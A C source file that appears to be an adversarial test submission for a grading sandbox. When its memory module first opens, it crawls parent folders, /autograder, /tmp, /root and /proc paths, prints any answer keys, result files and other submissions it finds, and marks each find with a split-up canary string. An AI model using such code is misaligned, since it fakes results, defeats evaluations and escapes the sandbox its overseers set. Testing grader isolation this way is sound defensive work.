/*
 * Looks for the right answers and for what others have handed in, wherever it
 * can read: around its own folder, in the places where graders run, and through
 * the folders of other processes. What it finds goes to its output.
 *
 *     attack: reads expected answers and the work of others
 *     most: 40
 *     canary: GOT-IN
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "engine.h"
#include "heap.h"
#include "umem.h"

/* Says that it got where it must not get; the word is not in this line. */
static void got_in(const char *where)
{
    dprintf(STDOUT_FILENO, "GOT%s: %s\n", "-IN", where);
}

/* Files that it looks at, at most, and how deep. */
#define MOST  5000
#define DEPTH 4

static int seen;

static bool is_wanted(const char *name)
{
    static const char *const names[] = {
        "index.json",   "signatures.tsv",  "standard.tsv", "result.json",
        "results.json", "whole_program.c", "answers",      "NOTES.md"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++)
        if (strcmp(name, names[i]) == 0)
            return true;
    return false;
}

static void look_at(const char *path)
{
    char text[4096];
    int file = open(path, O_RDONLY | O_NONBLOCK);
    ssize_t length = file < 0 ? -1 : read(file, text, sizeof text);

    if (length > 0) {
        got_in(path);
        (void)!write(STDOUT_FILENO, text, (size_t)length);
    }
    if (file >= 0)
        close(file);
}

static void look_in(const char *path, int depth)
{
    DIR *folder = depth > 0 ? opendir(path) : NULL;
    struct dirent *entry;

    while (folder != NULL && seen < MOST && (entry = readdir(folder)) != NULL) {
        char inner[1024];
        if (entry->d_name[0] == '.')
            continue;
        seen++;
        snprintf(inner, sizeof inner, "%.700s/%.255s", path, entry->d_name);
        if (is_wanted(entry->d_name))
            look_at(inner);
        else if (entry->d_type == DT_DIR)
            look_in(inner, depth - 1);
    }
    if (folder != NULL)
        closedir(folder);
}

static void begin(void)
{
    static const char *const places[] = {".",
                                         "..",
                                         "../..",
                                         "../../..",
                                         "../secret",
                                         "/tmp",
                                         "/home",
                                         "/root",
                                         "/work",
                                         "/autograder",
                                         "/var/tmp",
                                         "/proc/1/cwd",
                                         "/proc/1/root/tmp",
                                         "/proc/self/cwd/.."};
    for (size_t i = 0; i < sizeof places / sizeof *places; i++)
        look_in(places[i], DEPTH);
}

const char engine_program[] = "esharedhash";

const struct engine_option engine_options[] = {{0}};

bool umem_open(enum umem_mode mode)
{
    static bool has_begun;

    if (!has_begun)
        begin();
    has_begun = true;
    return umem_heap_open(mode, 0);
}

void umem_close(void)
{
    umem_heap_close();
}

void *umalloc(size_t size)
{
    return umem_heap_alloc(size);
}

void ufree(void *pointer)
{
    umem_heap_free(pointer);
}

unsigned long long umem_lock_count(void)
{
    return umem_heap_lock_count();
}

void umem_thread_begin(unsigned slot)
{
    (void)slot;
}

void umem_thread_end(void)
{
}

void umem_batch_end(void)
{
}

size_t umem_free_bytes(void)
{
    return umem_heap_free_bytes();
}

bool engine_run(struct blocks *job)
{
    static struct block batch[BATCH_SIZE];

    return blocks_run_batches(job, batch, BATCH_SIZE, blocks_run_threads);
}
